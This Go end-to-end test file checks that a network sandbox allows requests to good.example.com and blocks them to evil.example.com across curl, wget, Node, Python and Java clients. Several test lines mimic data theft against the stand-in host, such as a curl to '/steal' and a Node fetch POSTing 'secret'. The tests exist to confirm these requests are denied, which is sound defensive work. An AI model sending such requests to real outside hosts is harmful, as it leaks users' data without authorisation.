package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/penstock/penstock/internal/world"
)

// web is the usual scene: a host that the policy allows and one that it does not.
func web(t *testing.T) (p *pen, denied *world.Origin) {
	t.Helper()
	w := world.New(t)
	w.HTTPS("good.example.com", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.Body != nil && r.Method != http.MethodGet {
			h := sha256.New()
			n, _ := io.Copy(h, r.Body)
			fmt.Fprintf(rw, "%s %s got %d %s\n", r.Proto, r.Method, n, hex.EncodeToString(h.Sum(nil)))
			return
		}
		fmt.Fprintf(rw, "%s hello from %s\n", r.Proto, r.Host)
	}))
	denied = w.HTTPS("evil.example.com", text("stolen"))
	p = newPen(t, w)
	p.allow = []string{"{host: good.example.com}"}
	return p, denied
}

func TestCurl(t *testing.T) {
	world.Tool(t, "curl")
	p, evil := web(t)
	r := p.sh(`curl -sS --http1.1 https://good.example.com/a && curl -sS --http2 https://good.example.com/b`)
	wantOutput(t, r, 0, "hello from good.example.com\nHTTP/2.0 hello from good.example.com")
	p.wantAllowed("good.example.com")

	upload := strings.Repeat("0123456789abcdef", 1<<16)
	sum := sha256.Sum256([]byte(upload))
	p.home.Write(t, "project/upload", upload)
	for _, version := range []string{"--http1.1", "--http2"} {
		r = p.run("curl", "-sS", version, "--data-binary", "@upload", "https://good.example.com/upload")
		wantOutput(t, r, 0, "POST got 1048576 "+hex.EncodeToString(sum[:]))
		r = p.run("curl", "-sS", version, "-w", "\nstatus=%{http_code}\n", "https://evil.example.com/steal")
		if !bare() {
			wantOutput(t, r, 0, "status=403", "evil.example.com")
		}
	}
	r = p.sh("curl -sSf https://evil.example.com/")
	wantFailure(t, r)
	p.wantDenied(evil)
	if !bare() {
		versions := map[string]bool{}
		for _, f := range p.flows("good.example.com") {
			versions[f.str("version")] = true
		}
		if !versions["HTTP/1.1"] || !versions["HTTP/2.0"] && !versions["HTTP/2"] {
			t.Errorf("HTTP versions in the audit: %v", versions)
		}
	}
}

func TestCurlByMethodAndPath(t *testing.T) {
	world.Tool(t, "curl")
	p, _ := web(t)
	if bare() {
		t.Skip("nothing to compare without a pen")
	}
	p.allow = []string{"{host: good.example.com, methods: [GET], paths: [/public/**]}"}
	r := p.sh(`for m in GET POST; do for p in /public/x /secret /public/../secret; do
  curl -sS --path-as-is -o /dev/null -w "$m $p %{http_code}\n" -X $m https://good.example.com$p; done; done`)
	wantOutput(t, r, 0, "GET /public/x 200", "GET /secret 403", "GET /public/../secret 403",
		"POST /public/x 403", "POST /secret 403")
}

func TestWget(t *testing.T) {
	world.Tool(t, "wget")
	p, evil := web(t)
	if bare() {
		t.Skip("wget takes the world's authority from no variable")
	}
	wantOutput(t, p.run("wget", "-q", "-O", "-", "https://good.example.com/"), 0, "hello from good.example.com")
	p.wantAllowed("good.example.com")
	wantOutput(t, p.run("wget", "-q", "-O", "-", "https://evil.example.com/"), 8)
	p.wantDenied(evil)
}

func TestNodeFetch(t *testing.T) {
	world.Tool(t, "node")
	p, evil := web(t)
	p.home.Write(t, "project/fetch.mjs", `
const ok = await fetch("https://good.example.com/");
console.log("ok", ok.status, (await ok.text()).trim());
const bad = await fetch("https://evil.example.com/", {method: "POST", body: "secret"});
console.log("bad", bad.status);
`)
	r := p.run("node", "fetch.mjs")
	wantOutput(t, r, 0, "ok 200 HTTP/1.1 hello from good.example.com")
	if !bare() {
		wantOutput(t, r, 0, "bad 403")
	}
	p.wantAllowed("good.example.com")
	p.wantDenied(evil)
}

func TestPythonUrllib(t *testing.T) {
	world.Tool(t, "python3")
	p, evil := web(t)
	p.home.Write(t, "project/get.py", `
import urllib.request, urllib.error
print("ok", urllib.request.urlopen("https://good.example.com/").read().decode().strip())
try:
    print("bad", urllib.request.urlopen("https://evil.example.com/").status)
except urllib.error.HTTPError as e:
    print("bad", e.code)
`)
	r := p.run("/usr/bin/python3", "get.py")
	wantOutput(t, r, 0, "ok HTTP/1.1 hello from good.example.com")
	if !bare() {
		wantOutput(t, r, 0, "bad 403")
	}
	p.wantAllowed("good.example.com")
	p.wantDenied(evil)
}

func TestPythonRequests(t *testing.T) {
	python := world.Tool(t, "python3")
	p, evil := web(t)
	if r := p.w.Run(nil, world.Options{}, python, "-c", "import requests"); r.Code != 0 {
		world.Missing(t, "python3-requests", "run .ci/install")
	}
	p.home.Write(t, "project/get.py", `
import requests
s = requests.Session()
for i in range(3):
    r = s.post("https://good.example.com/", data=b"x" * 100000)
    print("ok", r.status_code, r.text.strip())
print("bad", s.get("https://evil.example.com/").status_code)
`)
	r := p.run(python, "get.py")
	wantOutput(t, r, 0, "ok 200 HTTP/1.1 POST got 100000")
	if !bare() {
		wantOutput(t, r, 0, "bad 403")
	}
	p.wantAllowed("good.example.com")
	p.wantDenied(evil)
}

func TestJavaHTTPClient(t *testing.T) {
	java := world.Tool(t, "java")
	p, evil := web(t)
	p.home.Write(t, "project/Get.java", `
import java.net.URI;
import java.net.http.*;

public class Get {
    public static void main(String[] args) throws Exception {
        HttpClient c = HttpClient.newHttpClient();
        for (String url : args) {
            HttpResponse<String> r = c.send(HttpRequest.newBuilder(URI.create(url)).build(), HttpResponse.BodyHandlers.ofString());
            System.out.println(r.statusCode() + " " + r.version() + " " + r.body().trim());
        }
    }
}
`)
	argv := []string{java}
	if bare() {
		t.Skip("needs the pen's Java trust store")
	}
	r := p.run(append(argv, "Get.java", "https://good.example.com/", "https://evil.example.com/")...)
	wantOutput(t, r, 0, "200 HTTP_2 HTTP/2.0 hello from good.example.com", "403 HTTP_2")
	p.wantAllowed("good.example.com")
	p.wantDenied(evil)
}

// The first event must reach the client before the second exists: the server
// sends it only after the client has said that it has the first.
func TestServerSentEvents(t *testing.T) {
	world.Tool(t, "node")
	p, evil := web(t)
	got := make(chan struct{}, 1)
	p.w.HTTPS("events.example.com", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			got <- struct{}{}
			return
		}
		rw.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(rw, "data: first\n\n")
		rw.(http.Flusher).Flush()
		select {
		case <-got:
			io.WriteString(rw, "data: second\n\n")
		case <-r.Context().Done():
		}
	}))
	p.allow = append(p.allow, "{host: events.example.com}")
	p.home.Write(t, "project/sse.mjs", `
const url = "https://events.example.com/";
const r = await fetch(url, {signal: AbortSignal.timeout(15000)});
let seen = "";
for await (const chunk of r.body) {
  seen += new TextDecoder().decode(chunk);
  if (seen === "data: first\n\n") { console.log("got first"); await fetch(url, {method: "POST"}); }
}
console.log(JSON.stringify(seen));
const bad = await fetch("https://evil.example.com/stream");
console.log("bad", bad.status);
`)
	r := p.run("node", "sse.mjs")
	wantOutput(t, r, 0, "got first", `"data: first\n\ndata: second\n\n"`)
	p.wantAllowed("events.example.com")
	p.wantDenied(evil)
}
